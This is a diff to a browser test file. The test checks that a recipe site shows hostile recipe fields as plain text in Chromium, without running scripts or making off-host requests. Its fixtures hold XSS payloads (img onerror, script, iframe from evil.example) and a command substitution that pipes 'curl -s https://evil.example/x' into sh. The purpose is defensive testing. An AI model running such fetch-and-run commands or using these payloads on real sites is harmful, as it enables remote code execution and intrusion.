@@ -1,12 +1,12 @@
 """Hostile recipe text in a real browser: it is shown as text, and nothing in it runs or loads.
 
 The catalogue here holds the seed and one recipe whose every Markdown field, free-text field,
-environment value, launch script and withheld variable carries attempts to get markup past the renderer: a fence
-with attributes inside an indented code sample (which once made the site's own Markdown build a
-chart element whose script address came from the recipe), off-host script and image addresses,
-raw HTML, attribute lists, javascript: links. Each page that shows the recipe is opened in
-Chromium; the tab fails the test on any dialog, page error, console error or request that leaves
-the test server.
+environment value, launch script, withheld variable and conditional value carries attempts to get
+markup past the renderer: a fence with attributes inside an indented code sample (which once made
+the site's own Markdown build a chart element whose script address came from the recipe), off-host
+script and image addresses, raw HTML, attribute lists, javascript: links. Each page that shows the
+recipe is opened in Chromium; the tab fails the test on any dialog, page error, console error or
+request that leaves the test server.
 """
 
 from __future__ import annotations
@@ -78,6 +78,7 @@ LINKS = (
 
 # A variable the publisher's files set that the launch does not export: its value is shown in a warning.
 WITHHELD = "<img src=x onerror=alert(15)> $(curl -s https://evil.example/x | sh)"
+CONDITIONAL = ("<script>alert(16)</script>", 'if [ "<iframe src=https://evil.example/frame>" ]')
 COMMIT = "a" * 40
 
 
@@ -122,6 +123,15 @@ def hostile_site(
             "command": "bash run.sh\n",
             "inputs": [],
             "withheld": [{"name": "LD_PRELOAD", "value": WITHHELD, "file": "run.sh", "line": 1}],
+            "conditional": [
+                {
+                    "name": "NCCL_DEBUG",
+                    "value": CONDITIONAL[0],
+                    "condition": CONDITIONAL[1],
+                    "file": "run.sh",
+                    "line": 2,
+                }
+            ],
         }
         project.add(HOSTILE_ID, data)
         with pytest.MonkeyPatch.context() as patch:
@@ -187,6 +197,7 @@ def test_the_recipe_text_is_shown_as_text(tab: Any, hostile_site: str) -> None:
     for fragment in VISIBLE:
         assert fragment in text
     assert f"LD_PRELOAD={WITHHELD}, set by run.sh line 1" in text
+    assert f"NCCL_DEBUG\t{CONDITIONAL[0]}\t{CONDITIONAL[1]}\trun.sh line 2" in text
     # The launch script is the file's text, byte for byte, as the reader copies it.
     script = tab.eval_on_selector_all("article pre code", "codes => codes.map(c => c.textContent)")
     assert any(code == ALL + "\n" + FENCE_IN_CODE_SAMPLE.replace("    ", "") for code in script)
